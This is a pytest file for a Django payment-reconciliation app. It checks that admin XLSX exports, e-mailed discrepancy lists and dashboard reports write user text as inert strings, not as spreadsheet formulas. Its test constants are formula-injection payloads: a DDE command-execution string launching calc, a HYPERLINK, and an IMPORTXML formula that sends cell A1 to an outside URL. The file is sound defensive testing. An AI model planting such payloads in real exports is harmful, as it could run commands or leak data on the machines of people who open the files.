"""No reconciliation workbook holds a formula from the text in it: the admin's exports (xlsx
only), the e-mailed discrepancy list and the dashboard's reports write a configuration's name,
a run's error, a discrepancy's summary and note or a gateway's method inert ("'=..."), numbers
still numbers. (The discrepancy and item exports, with notes and references: also
tests/test_bad_uploads.py.)"""

import io
from decimal import Decimal

import openpyxl
import pytest
from django.contrib import admin
from django.core import mail
from django.urls import reverse
from import_export.admin import ExportMixin
from import_export.formats.base_formats import XLSX

from skinspire.collections.models import PatientPayment
from skinspire.core.roles import ROLE_ACCOUNTANT
from skinspire.gateways.models import GatewayConfiguration
from skinspire.reconciliation.admin.resources import SpreadsheetResource
from skinspire.reconciliation.models import Discrepancy, MatchingSettings, ReconciliationRun
from skinspire.reconciliation.services.report import reconciliation_report_send
from skinspire.reconciliation.tests.admin_support import finished_run, user_with
from skinspire.reconciliation.tests.report_support import figures
from skinspire.workspace.tests.support import accounts_desk

pytestmark = pytest.mark.django_db

NAME = '=HYPERLINK("http://x","y")'
ERROR = "=cmd|' /C calc'!A0"
NOTE = "==1+1"
REFERENCE = '=IMPORTXML(CONCAT("http://x/?",A1),"//a")'


def cells(content: bytes) -> list:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for row in book.active.iter_rows() for cell in row if cell.value is not None]


def assert_inert(content: bytes, *texts: str) -> set:
    """No formula cell, and each text there only with its apostrophe; the workbook's values."""
    found = cells(content)
    assert [cell.value for cell in found if cell.data_type == "f"] == []
    values = {cell.value for cell in found}
    assert {"'" + text for text in texts} <= values
    assert not values & set(texts)
    return values


@pytest.fixture
def hostile_run(configuration):
    """A finished run whose configuration name, error and discrepancy carry formulas."""
    run = finished_run(configuration)
    GatewayConfiguration.objects.filter(pk=configuration.pk).update(name=NAME)
    ReconciliationRun.objects.filter(pk=run.pk).update(error_message=ERROR)
    Discrepancy.objects.update(summary=REFERENCE, resolution_note=NOTE)
    return run


def test_every_admin_export_is_xlsx_from_a_resource_that_writes_no_formula():
    exporting = [
        model_admin for model_admin in admin.site._registry.values() if isinstance(model_admin, ExportMixin)
    ]

    assert sorted(type(model_admin).__name__ for model_admin in exporting) == [
        "DiscrepancyAdmin",
        "ReconciliationItemAdmin",
        "ReconciliationRunAdmin",
    ]
    for model_admin in exporting:
        assert model_admin.get_export_formats() == [XLSX]
        assert all(
            issubclass(resource, SpreadsheetResource)
            for resource in model_admin.get_export_resource_classes(None)
        )


def test_the_run_export_writes_the_configuration_name_and_error_inert(client, hostile_run, hospital):
    client.force_login(user_with(ROLE_ACCOUNTANT, hospital))

    response = client.get(reverse("admin:reconciliation_reconciliationrun_export"))

    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    values = assert_inert(response.content, NAME, ERROR)
    assert hostile_run.pk in values  # numbers stay numbers


def test_the_emailed_discrepancies_are_written_inert(configuration, hostile_run):
    MatchingSettings.objects.create(configuration=configuration, report_recipients="finance@example.com")

    assert reconciliation_report_send(run_id=hostile_run.pk) is True

    ((_, content, _),) = mail.outbox[0].attachments
    assert_inert(content, NAME, REFERENCE, NOTE)


def test_a_dashboard_report_writes_a_gateways_method_inert(client):
    desk = accounts_desk()
    figures(desk.hospital, desk.main)
    PatientPayment.objects.filter(method="upi").update(method=NAME)
    client.force_login(desk.people["accountant"])

    response = client.get("/workspace/reconciliation/reports/fees.xlsx")

    values = assert_inert(response.content, NAME)
    assert Decimal("1500") in {Decimal(str(value)) for value in values if isinstance(value, int | float)}
